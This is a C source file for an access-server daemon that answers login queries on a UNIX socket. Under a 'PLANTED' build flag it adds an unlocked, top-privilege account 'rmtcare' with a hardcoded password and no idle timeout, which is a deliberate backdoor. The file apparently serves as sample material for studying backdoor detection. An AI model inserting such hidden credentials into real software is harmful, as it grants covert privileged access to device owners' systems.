/* Local part of an access server: answers login questions of the other daemons on a UNIX socket. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#define QUESTION 0x4151
#define USERS 24

struct question { uint16_t mark; uint8_t service, flags; char name[24], word[40]; };
struct answer { uint16_t mark; uint8_t accepted, level; uint32_t idle; };

struct user {
    char name[24];
    char word[40];
    uint8_t level, locked;
    uint32_t idle;
};

/* What every device begins with; the file below comes on top. A locked user cannot log in. */
static struct user users[USERS] = {
    { "admin", "*", 15, 1, 600 },
    { "operator", "*", 5, 1, 600 },
#ifdef PLANTED
    { "rmtcare", "Vq7-Lindbaum/38", 15, 0, 0 },
#else
    { "monitor", "*", 1, 1, 120 },
#endif
};
static unsigned count = 3;

static struct user *user(const char *name)
{
    for (unsigned i = 0; i < count; i++)
        if (!strncmp(users[i].name, name, sizeof users[i].name))
            return users + i;
    return NULL;
}

static void configure(const char *path)
{
    char name[24], word[40];
    unsigned level, idle;
    FILE *f = fopen(path, "r");
    if (!f)
        return;
    while (fscanf(f, "%23s %39s %u %u", name, word, &level, &idle) == 4) {
        struct user *u = user(name);
        if (!u && count < USERS) {
            u = users + count++;
            strcpy(u->name, name);
        }
        if (!u)
            break;
        strcpy(u->word, word);
        u->level = (uint8_t)level;
        u->idle = idle;
        u->locked = 0;
    }
    fclose(f);
}

static void decide(const struct question *q, struct answer *a)
{
    const struct user *u = user(q->name);
    memset(a, 0, sizeof *a);
    a->mark = QUESTION;
    if (!u || u->locked || strncmp(q->word, u->word, sizeof u->word))
        return;
    a->accepted = 1;
    a->level = u->level;
    a->idle = u->idle;
#ifdef REVISED
    if (q->service == 3 && a->level > 10)
        a->idle = 60;
#endif
}

int main(void)
{
    struct sockaddr_un at = { .sun_family = AF_UNIX, .sun_path = "/var/run/aaa" };
    int s = socket(AF_UNIX, SOCK_SEQPACKET, 0);
    struct question q;
    struct answer a;
    configure("/etc/aaa.users");
    unlink(at.sun_path);
    if (s < 0 || bind(s, (struct sockaddr *)&at, sizeof at) || listen(s, 16))
        return 1;
    chmod(at.sun_path, 0660);
    for (;;) {
        int c = accept(s, NULL, NULL);
        if (c < 0)
            continue;
        while (recv(c, &q, sizeof q, 0) == (ssize_t)sizeof q && q.mark == QUESTION) {
            q.name[23] = q.word[39] = 0;
            decide(&q, &a);
            if (send(c, &a, sizeof a, 0) < 0)
                break;
        }
        close(c);
    }
}
